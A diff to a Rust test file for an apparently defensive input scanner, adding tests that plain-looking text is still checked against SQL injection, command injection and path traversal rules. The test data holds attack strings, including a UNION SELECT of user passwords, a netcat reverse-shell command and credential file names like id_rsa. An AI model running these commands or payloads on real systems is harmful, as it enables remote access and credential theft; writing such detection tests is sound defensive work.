@@ -33,9 +33,11 @@ fn plain_text_is_letters_digits_space_dash_underscore_dot_comma() {
                 && matches!(c as u32, 0xC0..=0x24F)
                 && !matches!(c, '\u{10A}' | '\u{10D}' | '\u{130}'));
         assert_eq!(plain(&c.to_string()), want, "{c:?}");
-        assert_eq!(plain(&format!("Ab1 {c} z")), want, "{c:?}");
+        // (Two spaces meeting are not plain: the SQL view collapses them.)
+        assert_eq!(plain(&format!("Ab1 {c} z")), want && c != ' ', "{c:?}");
     }
     assert!(plain("a.b c-d_e,f"));
+    assert!(!plain("a  b"));
     assert!(plain("Siobhán Dún Laoghaire Łódź Ærø ǅ"));
     assert!(!plain("a..b"));
     // Look-alikes that fold to ASCII, Unicode spaces and other scripts are
@@ -232,4 +234,40 @@ fn levels_widen_the_net() {
     let at = |level| Scanner::new(level, Categories::ALL).scan(probe, Field::default());
     assert_eq!(at(Level::Medium), None);
     assert_eq!(at(Level::High).map(|f| f.category), Some(Category::Xss));
+}
+
+#[test]
+fn plain_text_is_still_matched_against_every_rule_set() {
+    // Letters, digits, spaces and `-_.,` only, short and past the 128 bytes
+    // lower-cased on the stack, ASCII and with Latin letters.
+    let pad = "Please leave the parcel at the side door, thanks".repeat(3);
+    assert!(pad.len() > 128);
+    for (attack, category) in [
+        ("1 UNION SELECT username, password FROM users", Category::Sqli),
+        ("-1 Union All Select 1,2,3", Category::Sqli),
+        ("sysobjects", Category::Sqli),
+        ("nc -e cmd.exe 10.0.0.1 4444", Category::Cmd),
+        ("win.ini", Category::Traversal),
+        ("id_rsa", Category::Traversal),
+    ] {
+        for v in [
+            attack.to_owned(),
+            format!("{pad} {attack}"),
+            format!("{attack} é"),
+            format!("Ó {pad} {attack}"),
+        ] {
+            assert!(is_plain(&v, &normalize::ByteSet::of(v.as_bytes())), "{v}");
+            assert_eq!(scan(&v), Some(category), "{v}");
+        }
+    }
+    for benign in [
+        "Select a plan from the menu",
+        "Union Street 12, Cork",
+        "Dún Laoghaire",
+        "TEA-EARLGREY-250",
+    ] {
+        for v in [benign.to_owned(), format!("{pad} {benign}")] {
+            assert_eq!(scan(&v), None, "{v}");
+        }
+    }
 }
